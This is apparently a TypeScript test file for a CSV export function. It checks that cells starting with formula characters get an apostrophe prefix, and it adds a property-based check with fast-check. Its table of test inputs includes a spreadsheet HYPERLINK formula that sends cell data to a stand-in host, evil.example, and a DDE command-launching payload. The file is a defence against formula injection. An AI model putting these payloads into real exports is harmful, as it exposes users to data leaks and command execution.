// Issue 8: a CSV export never hands a spreadsheet a formula. Cells starting
// with = + - @ (and tab or carriage return, which some spreadsheets skip before
// reading a formula) get a leading apostrophe; other text is kept as it is.
import fc from 'fast-check'
import { csvCell, toCsv } from '../../lib/index'
import { recordFigures, tallyInto } from '../support/reliabilityFigures'

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r']
const figures: Array<{ what: string; tried: number; held: number }> = []
const tally = tallyInto(figures)
afterAll(() => recordFigures('security-csv', figures))

/** Reads an RFC 4180 document back into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') { cell += '"'; i += 1 } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"') quoted = true
    else if (char === ',') { row.push(cell); cell = '' }
    else if (char === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i += 1 }
    else cell += char
  }
  if (cell !== '' || row.length > 0) { row.push(cell); rows.push(row) }
  return rows
}

const startsWithTrigger = (text: string) => TRIGGERS.some((trigger) => text.startsWith(trigger))

describe('CSV formula injection', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("https://evil.example?x="&A1,"click")', '\'=HYPERLINK("https://evil.example?x="&A1,"click")'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
  ])('csvCell(%j) is %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected)
  })

  it('keeps numbers (a negative number is no formula) and neutralises formulas inside objects and dates', () => {
    expect(csvCell(-5)).toBe('-5')
    expect(csvCell(3.5)).toBe('3.5')
    expect(csvCell(new Date('2024-05-01T00:00:00Z'))).toBe('2024-05-01T00:00:00.000Z')
    expect(csvCell(['=1'])).toBe('["=1"]')
  })

  it('no cell of a generated export starts with a formula trigger once read back (fast-check)', () => {
    const check = tally('generated CSV cells (fast-check): none starts with = + - @ tab CR once read back')
    const text = fc.oneof(
      fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([a, b]) => a + b),
      fc.string(),
      fc.string({ unit: 'binary' }),
    )
    const value = fc.oneof(text, fc.integer(), fc.double({ noNaN: true }), fc.boolean(), fc.constant(null), fc.array(text, { maxLength: 2 }))
    const rows = fc.array(fc.record({ a: value, b: value, c: text }), { minLength: 1, maxLength: 8 })
    fc.assert(fc.property(rows, (records) => {
      const parsed = parseCsv(toCsv(records, [{ label: 'A', value: 'a' }, { label: 'B', value: 'b' }, { label: '=C', value: (row) => row.c }]))
      expect(parsed).toHaveLength(records.length + 1)
      expect(parsed[0]).toEqual(['A', 'B', "'=C"])
      records.forEach((record, index) => {
        const cells = parsed[index + 1]
        expect(cells).toHaveLength(3)
        ;(['a', 'b', 'c'] as const).forEach((key, column) => {
          check(() => {
            const original = record[key]
            if (typeof original === 'number') {
              expect(cells[column]).toBe(String(original))
            } else {
              expect(startsWithTrigger(cells[column])).toBe(false)
              // Nothing else is changed: the cell is the text, or the text behind an apostrophe.
              const textOf = typeof original === 'string' ? original : original === null ? '' : typeof original === 'boolean' ? String(original) : JSON.stringify(original)
              expect(cells[column]).toBe(startsWithTrigger(textOf) ? `'${textOf}` : textOf)
            }
          })
        })
      })
    }), { numRuns: 2000 })
  })
})
